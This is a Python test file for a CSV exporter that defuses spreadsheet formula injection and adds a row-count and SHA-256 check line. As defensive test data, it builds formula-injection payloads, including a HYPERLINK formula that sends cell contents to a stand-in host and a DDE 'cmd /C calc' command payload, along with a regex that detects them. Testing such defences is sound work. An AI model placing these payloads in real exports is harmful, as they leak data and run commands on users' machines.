"""CSV that leaves: no formula lives in it, it is whole, and a file that was cut short shows it."""

import csv
import hashlib
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from watchward.errors import DisclosureRefusal
from watchward.export.inert import inert
from watchward.export.whole_csv import write_csv

STARTS = ("=", "+", "-", "@", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BEFORE = ("", " ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "\t ")
BODIES = ('HYPERLINK("http://x.invalid/?"&A1,"x")', "1+cmd|' /C calc'!A0")
PAYLOADS = [f"{before}{start}{body}" for before in BEFORE for start in STARTS for body in BODIES]
SPLITS = ["a;=1+1", "a,=1+1", "a\t=1+1", "a\n=1+1", "a;  @SUM(1)", "a\r-2+3", "x;\uff1d1"]
LIVE = re.compile(r"^[\s\u00a0\u200b\ufeff]*[=+\-@|%\uff1d\uff0b\uff0d\uff20]")
NUMBERS = ["-5", "-12.5", "+3", "1,234", "-1,234.5", "0", "12%", "-3%"]


def file_of(header, rows):
    out = io.BytesIO()
    write_csv(out, header=header, rows=rows, expected=len(rows), said="a test")
    return out.getvalue()


def read(body, delimiter=","):
    text = body.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))


def test_two_hundred_payloads_in_data_and_in_headers():
    assert len(PAYLOADS) == 200
    for one in PAYLOADS:
        found = read(file_of([one, "b"], [[one, "1"]]))
        cells = [cell for line in found for cell in line]
        assert not [cell for cell in cells if LIVE.match(cell)], repr(one)
        assert found[1][0].startswith("'")


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_separator_that_a_country_uses_brings_a_formula_to_life(delimiter):
    for one in [*PAYLOADS, *SPLITS]:
        body = file_of(["a", "b"], [[one, "1"]]).decode("utf-8-sig")
        for line in body.splitlines():
            naive = [part.strip('"') for part in line.split(delimiter)]
            assert not [part for part in naive if LIVE.match(part)], repr(one)


@pytest.mark.parametrize("number", NUMBERS)
def test_a_genuine_number_stays_as_it_is(number):
    assert inert(number) == number


@given(st.text(max_size=40))
def test_whatever_the_words_are_they_are_inert_and_on_one_line(words):
    quiet = inert(words)
    numeric = re.fullmatch(r"[-+]?[\d,]+(\.\d+)?%?", quiet)
    assert numeric or not LIVE.match(quiet)
    assert "\n" not in quiet
    assert "\r" not in quiet


def test_the_last_line_has_the_count_and_the_hash_of_all_above():
    body = file_of(["a", "b"], [["1", "ŵ"], ["2", "ŷ"]])
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.count(b"\r\n") == body.count(b"\n") == 4
    head, _, last = body[:-2].rpartition(b"\r\n")
    digest = hashlib.sha256(head + b"\r\n").hexdigest()
    assert last.decode() == f'"Rows: 2; SHA-256 of all above: {digest}; a test",""'


def test_a_file_that_ends_short_is_not_sent():
    with pytest.raises(DisclosureRefusal, match="has 1 rows and should have 2"):
        write_csv(io.BytesIO(), header=["a"], rows=[["1"]], expected=2)
